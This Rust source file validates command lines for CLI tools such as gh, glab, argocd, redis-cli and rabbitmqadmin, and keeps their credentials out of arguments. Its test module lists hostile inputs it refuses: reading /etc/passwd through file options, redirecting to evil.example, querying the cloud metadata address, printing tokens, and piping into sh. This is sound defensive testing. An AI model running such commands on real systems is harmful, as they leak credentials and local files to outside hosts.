//! Command lines of programs that connect to one service: their allowed commands, and how the connection is passed to them.

mod known;

use super::connections::{connection, host, password, path, secret, user};
use super::setup::{FILE, PrivateFile, ProgramSetup};
use super::words;
use crate::secrets::REPOSITORY_SECRETS;
use crate::template::to_text;
use known::{ARGOCD, GITHUB, GITLAB, RABBITMQ, REDIS};
use serde_json::{Map, Value};
use url::Url;

/// Arguments and setup of a call.
pub(super) type PreparedCommand = (Vec<String>, ProgramSetup);

/// A program with its allowed commands.
pub(super) struct Tool {
    pub kind: &'static str,
    pub program: &'static str,
    /// Allowed commands by the first word or the first two; if empty, all that are not refused.
    allowed: &'static [&'static str],
    refused: &'static [&'static str],
    /// Refused options: those that read files, connect elsewhere or contain secrets.
    options: &'static [&'static str],
    /// Commands without side effects, by the first word or the first two.
    reads: &'static [&'static str],
    /// Whether shell metacharacters are ordinary characters in its command lines.
    is_plain: bool,
}

pub(super) const TOOLS: [Tool; 5] = [ARGOCD, REDIS, RABBITMQ, GITHUB, GITLAB];

impl Tool {
    pub(super) fn find(kind: &str) -> Option<&'static Self> {
        TOOLS.iter().find(|tool| tool.kind == kind)
    }

    /// The validated arguments of the command.
    pub(super) fn arguments(&self, command: &Value) -> Result<Vec<String>, String> {
        let mut arguments: Vec<String> = match command {
            Value::Array(list) => list.iter().map(to_text).collect(),
            Value::Null => return Err("command: expected a command line".to_owned()),
            line => {
                let line = to_text(line);
                let split = if self.is_plain { words::plain(&line) } else { words(&line) };
                split.map_err(|reason| format!("command: {reason}"))?
            }
        };
        if arguments.first().is_some_and(|first| first == self.program) {
            arguments.remove(0);
        }
        let program = self.program;
        let Some(first) = arguments.first().filter(|first| !first.is_empty()) else {
            return Err(format!("command: expected what {program} is to do"));
        };
        if first.starts_with('-') {
            return Err(format!(
                "command: the option {first} stands before what {program} is to do: put it behind"
            ));
        }
        let (first, both) = verbs(&arguments);
        if !self.allowed.is_empty()
            && !self.allowed.contains(&first.as_str())
            && !self.allowed.contains(&both.as_str())
        {
            return Err(format!(
                "command: {program} {both} is not run here; these are: {}",
                self.allowed.join(", ")
            ));
        }
        if self.refused.contains(&first.to_lowercase().as_str()) {
            return Err(format!("command: {program} {first} never ends, so it is not run here"));
        }
        if let Some(option) =
            arguments.iter().find(|word| self.options.iter().any(|option| is_option(word, option)))
        {
            return Err(format!(
                "command: \"{option}\" reads a file of this machine, leads elsewhere or opens a page, and is not run here"
            ));
        }
        // rabbitmqadmin accepts abbreviated options.
        if self.kind == RABBITMQ.kind
            && let Some(option) = arguments.iter().find(|word| is_cut_option(word, self.options))
        {
            return Err(format!(
                "command: \"{option}\" is no option as it is written out, and is not run here"
            ));
        }
        // Values in Redis may begin with @.
        if self.kind != REDIS.kind
            && let Some(file) = arguments.iter().find(|word| names_file(word))
        {
            return Err(format!("command: \"{file}\" names a file of this machine: write the value out"));
        }
        if matches!(program, "gh" | "glab") {
            check_repository(program, &arguments)?;
        }
        Ok(arguments)
    }

    /// Whether a command has no side effects and can be repeated.
    pub(super) fn only_reads(&self, command: &Value) -> bool {
        let Ok(arguments) = self.arguments(command) else { return false };
        let (first, both) = verbs(&arguments);
        let is_read = |word: &str| self.reads.contains(&word);
        is_read(&both) || is_read(&first) || self.kind == REDIS.kind && is_read(&first.to_lowercase())
    }

    /// Creates the call.
    pub(super) fn make(
        &self,
        params: &Value,
        secrets: &Map<String, Value>,
    ) -> Result<PreparedCommand, String> {
        let arguments = self.arguments(&params["command"])?;
        refuse_secrets(&arguments, secrets)?;
        match self.program {
            "argocd" => Ok(argocd(arguments, &connection(self.kind, params, secrets)?)),
            "redis-cli" => Ok(redis(arguments, &connection(self.kind, params, secrets)?)),
            "rabbitmqadmin" => rabbitmq(arguments, &connection(self.kind, params, secrets)?),
            _ => self.repository_service(arguments, params, secrets),
        }
    }

    fn repository_service(
        &self,
        arguments: Vec<String>,
        params: &Value,
        secrets: &Map<String, Value>,
    ) -> Result<PreparedCommand, String> {
        let host = if self.program == "gh" { "github" } else { "gitlab" };
        let usual = REPOSITORY_SECRETS.iter().find(|(known, _)| *known == host).map_or("", |(_, name)| name);
        let kept = || secrets.get(usual).map(to_text).filter(|token| !token.is_empty());
        let token = secret(params, secrets)?.or_else(kept).ok_or_else(|| {
            format!("there is no token for {host}: set SECRET_{usual} in the environment of the service")
        })?;
        let mut setup = apart();
        // The secret is a token, or the URL of a self-hosted service that contains the token.
        let (token, own) =
            match Url::parse(&token).ok().filter(|url| matches!(url.scheme(), "https" | "http")) {
                Some(url) => {
                    let port = url.port().map(|port| format!(":{port}")).unwrap_or_default();
                    let token = if url.password().is_some() { password(&url) } else { user(&url) };
                    (token, format!("{}{port}", url.host_str().unwrap_or_default()))
                }
                None => (token, String::new()),
            };
        let environment = &mut setup.environment;
        if self.program == "gh" {
            let is_public = own.is_empty() || own == "github.com" || own.ends_with(".ghe.com");
            environment.set(if is_public { "GH_TOKEN" } else { "GH_ENTERPRISE_TOKEN" }, token);
            environment.set("GH_HOST", own);
            environment.set("GH_PROMPT_DISABLED", "1");
            environment.set("GH_NO_UPDATE_NOTIFIER", "1");
        } else {
            environment.set("GITLAB_TOKEN", token);
            environment.set("GITLAB_HOST", own);
            environment.set("NO_PROMPT", "1");
            environment.set("GLAB_CHECK_UPDATE", "false");
        }
        environment.set("NO_COLOR", "1");
        Ok((arguments, setup))
    }
}

fn apart() -> ProgramSetup {
    ProgramSetup { is_apart: true, ..ProgramSetup::default() }
}

fn verbs(arguments: &[String]) -> (String, String) {
    let first = arguments.first().cloned().unwrap_or_default();
    let second = arguments.get(1).filter(|word| !word.starts_with('-'));
    let both = second.map_or_else(|| first.clone(), |second| format!("{first} {second}"));
    (first, both)
}

/// One-letter options with a value, which may follow without a space.
const WITH_WORDS: &str = "tbBLlHXSV";

/// Whether a word is an option, with or without a value. The value may directly follow a one-letter option, and one-letter options may be combined.
fn is_option(word: &str, option: &str) -> bool {
    if option.ends_with('=') {
        return word.starts_with(option);
    }
    if let Some(letter) = option.strip_prefix('-').filter(|rest| !rest.starts_with('-')) {
        let together = word.strip_prefix('-').filter(|rest| !rest.starts_with('-')).unwrap_or_default();
        let letters = together.split(|letter: char| !letter.is_ascii_alphabetic()).next().unwrap_or_default();
        let is_value = letters.starts_with(|first| WITH_WORDS.contains(first));
        return together.starts_with(letter) || letters.contains(letter) && !is_value;
    }
    word == option || word.strip_prefix(option).is_some_and(|rest| rest.starts_with('='))
}

/// Whether a word is an abbreviated option.
fn is_cut_option(word: &str, options: &[&str]) -> bool {
    let name = word.split_once('=').map_or(word, |(name, _)| name);
    name.len() > 2 && name.starts_with("--") && options.iter().any(|option| option.starts_with(name))
}

fn names_file(word: &str) -> bool {
    let value = word.split_once('=').map_or(word, |(_, value)| value);
    value.starts_with('@') || value.starts_with("file://")
}

/// Refuses hosts other than that of the token.
fn check_repository(program: &str, arguments: &[String]) -> Result<(), String> {
    let is_call = arguments.first().is_some_and(|first| first == "api");
    if let Some(address) = arguments.iter().find(|word| is_call && word.contains("://")) {
        return Err(format!(
            "command: \"{address}\" is an address: expected a path such as repos/acme/shop/issues"
        ));
    }
    let mut words = arguments.iter();
    while let Some(word) = words.next() {
        let value = match word.as_str() {
            "-R" | "--repo" => words.next().map(String::as_str),
            word => word.strip_prefix("--repo=").or_else(|| word.strip_prefix("-R")),
        };
        // gh treats the first of three path segments as a host.
        let leads_elsewhere = |value: &str| {
            value.contains("://") || value.contains('@') || program == "gh" && value.matches('/').count() > 1
        };
        let is_named = program == "gh" && arguments[0] == "repo" && !word.starts_with('-');
        let value = value.or(Some(word.as_str()).filter(|_| is_named));
        if let Some(value) = value.filter(|value| leads_elsewhere(value)) {
            return Err(format!(
                "command: \"{value}\" leads elsewhere: expected a repository such as acme/shop"
            ));
        }
    }
    Ok(())
}

/// Refuses secrets in arguments: everybody on the machine can read them.
pub(super) fn refuse_secrets(arguments: &[String], secrets: &Map<String, Value>) -> Result<(), String> {
    let holds = |word: &String| {
        let is_in = |secret: &str| secret.len() >= 4 && word.contains(secret);
        secrets.values().filter_map(Value::as_str).any(is_in)
    };
    if arguments.iter().any(holds) {
        return Err("command: it holds a secret, and arguments of programs can be read by other users of the machine: give it as connection, or use scripting.run_script with the secret in env".to_owned());
    }
    Ok(())
}

fn argocd(mut arguments: Vec<String>, url: &Url) -> PreparedCommand {
    let mut setup = apart();
    let port = url.port().map(|port| format!(":{port}")).unwrap_or_default();
    setup.environment.set("ARGOCD_SERVER", format!("{}{port}", url.host_str().unwrap_or_default()));
    let token = if url.password().is_some() { password(url) } else { user(url) };
    setup.environment.set("ARGOCD_AUTH_TOKEN", token);
    if url.scheme() == "http" {
        arguments.push("--plaintext".to_owned());
    }
    (arguments, setup)
}

fn redis(command: Vec<String>, url: &Url) -> PreparedCommand {
    let mut arguments =
        ["-h", &host(url), "-p", &url.port().unwrap_or(6379).to_string(), "-e"].map(str::to_owned).to_vec();
    let (user, database) = (user(url), path(url));
    if !user.is_empty() && user != "default" {
        arguments.extend(["--user".to_owned(), user]);
    }
    if !database.is_empty() && database.chars().all(|digit| digit.is_ascii_digit()) {
        arguments.extend(["-n".to_owned(), database]);
    }
    if url.scheme() == "rediss" {
        arguments.push("--tls".to_owned());
    }
    arguments.extend(command);
    let mut setup = apart();
    setup.environment.set("REDISCLI_AUTH", password(url));
    (arguments, setup)
}

/// The password would be an argument, so it is passed in a configuration file.
fn rabbitmq(command: Vec<String>, url: &Url) -> Result<PreparedCommand, String> {
    let is_tls = url.scheme() == "https";
    let port = url.port().unwrap_or(if is_tls { 15_671 } else { 15_672 });
    let (user, password, vhost) = (user(url), password(url), path(url));
    if [&user, &password, &vhost].iter().any(|part| part.contains(['\n', '\r'])) {
        return Err("the connection has a line end in it".to_owned());
    }
    let mut text = format!("[quarterdeck]\nhostname = {}\nport = {port}\n", host(url));
    let lines = [("username", &user), ("password", &password), ("declare_vhost", &vhost), ("vhost", &vhost)];
    for (name, value) in lines.into_iter().filter(|(_, value)| !value.is_empty()) {
        text.push_str(&format!("{name} = {}\n", value.replace('%', "%%")));
    }
    if is_tls {
        text.push_str("ssl = True\n");
    }
    let mut arguments = ["-c", FILE, "-N", "quarterdeck"].map(str::to_owned).to_vec();
    arguments.extend(command);
    let file = Some(PrivateFile { name: "rabbitmqadmin.conf".to_owned(), text });
    Ok((arguments, ProgramSetup { file, ..apart() }))
}

#[cfg(test)]
mod tests {
    use super::super::{ProgramCall, program_call};
    use serde_json::{Map, Value, json};

    fn secrets() -> Map<String, Value> {
        let all = [
            ("CACHE", "rediss://ops:p%40ss-word@cache.example:6380/2"),
            ("GITOPS", "https://:argo-token-1@argocd.example"),
            ("QUEUE", "http://ops:50%25-word@mq.example/shop"),
            ("GITHUB_TOKEN", "ghp_word1234"),
            ("OWN_GITLAB", "https://:glpat-word@git.acme.example:8443"),
        ];
        all.into_iter().map(|(name, value)| (name.to_owned(), json!(value))).collect()
    }

    fn made(kind: &str, params: &Value) -> Result<ProgramCall, String> {
        program_call(kind, params, &secrets(), 1)
    }

    fn environment(call: &ProgramCall) -> Vec<String> {
        call.setup.environment.0.iter().map(|(name, value)| format!("{name}={value}")).collect()
    }

    #[test]
    fn a_connection_goes_by_the_environment_and_never_by_an_argument() {
        let call =
            made("dbms.redis.cli", &json!({ "command": "KEYS user:*", "integration_id": "cache" })).unwrap();
        assert_eq!(call.calls[0].join(" "), "-h cache.example -p 6380 -e --user ops -n 2 --tls KEYS user:*");
        assert_eq!(
            (call.program, environment(&call)),
            ("redis-cli", vec!["REDISCLI_AUTH=p@ss-word".to_owned()])
        );
        let call =
            made("cicd.argocd.cli", &json!({ "command": "argocd app sync web", "integration_id": "gitops" }))
                .unwrap();
        assert_eq!(call.calls[0].join(" "), "app sync web");
        assert_eq!(environment(&call), ["ARGOCD_SERVER=argocd.example", "ARGOCD_AUTH_TOKEN=argo-token-1"]);
        let call = made(
            "mq.rabbitmqadmin.cli",
            &json!({ "command": "list queues name messages", "integration_id": "queue" }),
        )
        .unwrap();
        assert_eq!(call.calls[0].join(" "), "-c {file} -N quarterdeck list queues name messages");
        let file = call.setup.file.as_ref().unwrap();
        assert!(
            file.text.contains("hostname = mq.example\nport = 15672\nusername = ops\npassword = 50%%-word\n"),
            "{}",
            file.text
        );
        let call = made("scm.github.cli", &json!({ "command": "gh issue list -R acme/shop" })).unwrap();
        assert!(environment(&call).contains(&"GH_TOKEN=ghp_word1234".to_owned()));
        let call =
            made("scm.gitlab.cli", &json!({ "command": "glab mr list", "integration_id": "own-gitlab" }))
                .unwrap();
        assert_eq!(environment(&call)[..2], ["GITLAB_TOKEN=glpat-word", "GITLAB_HOST=git.acme.example:8443"]);
        for call in
            [made("dbms.redis.cli", &json!({ "command": "GET a", "integration_id": "cache" })).unwrap(), call]
        {
            assert!(call.setup.is_apart && !format!("{call:?}").contains("word"), "{call:?}");
        }
    }

    #[test]
    fn what_reads_files_opens_sessions_or_leads_elsewhere_is_refused() {
        for (kind, command) in [
            ("cicd.argocd.cli", "argocd login evil.example"),
            ("cicd.argocd.cli", "argocd account generate-token"),
            ("cicd.argocd.cli", "argocd app sync web --local /etc"),
            ("cicd.argocd.cli", "argocd app list --server=evil.example"),
            ("cicd.argocd.cli", "argocd --auth-token x app list"),
            ("dbms.redis.cli", "-h evil.example GET a"),
            ("dbms.redis.cli", "subscribe news"),
            ("dbms.redis.cli", ""),
            ("mq.rabbitmqadmin.cli", "export /tmp/x"),
            ("mq.rabbitmqadmin.cli", "list queues -c /etc/passwd"),
            ("mq.rabbitmqadmin.cli", "list queues --password=x"),
            ("mq.rabbitmqadmin.cli", "get queue=a payload_file=/tmp/x"),
            ("mq.rabbitmqadmin.cli", "list queues --hos=evil.example"),
            ("mq.rabbitmqadmin.cli", "list queues -qH evil.example"),
            ("scm.github.cli", "gh pr merge 7 -sF/etc/passwd"),
            ("scm.github.cli", "gh auth token"),
            ("scm.github.cli", "gh pr checkout 7"),
            ("scm.github.cli", "gh issue create -F /etc/passwd"),
            ("scm.github.cli", "gh issue create --body-file=/etc/passwd"),
            ("scm.github.cli", "gh api http://169.254.169.254/latest"),
            ("scm.github.cli", "gh api repos/a/b/issues -f body=@/etc/passwd"),
            ("scm.github.cli", "gh issue list -R https://evil.example/a/b"),
            ("scm.github.cli", "gh issue list -R evil.example/a/b"),
            ("scm.github.cli", "gh repo view evil.example/a/b"),
            ("scm.github.cli", "gh issue list | sh"),
            ("scm.gitlab.cli", "glab config get token"),
            ("scm.gitlab.cli", "glab api projects --hostname evil.example"),
        ] {
            let refused = made(kind, &json!({ "command": command, "integration_id": "cache" }));
            assert!(refused.is_err_and(|reason| reason.starts_with("command: ")), "{command}");
        }
        let holds = json!({ "command": "SET a ghp_word1234", "integration_id": "cache" });
        assert!(made("dbms.redis.cli", &holds).unwrap_err().contains("holds a secret"));
    }
}
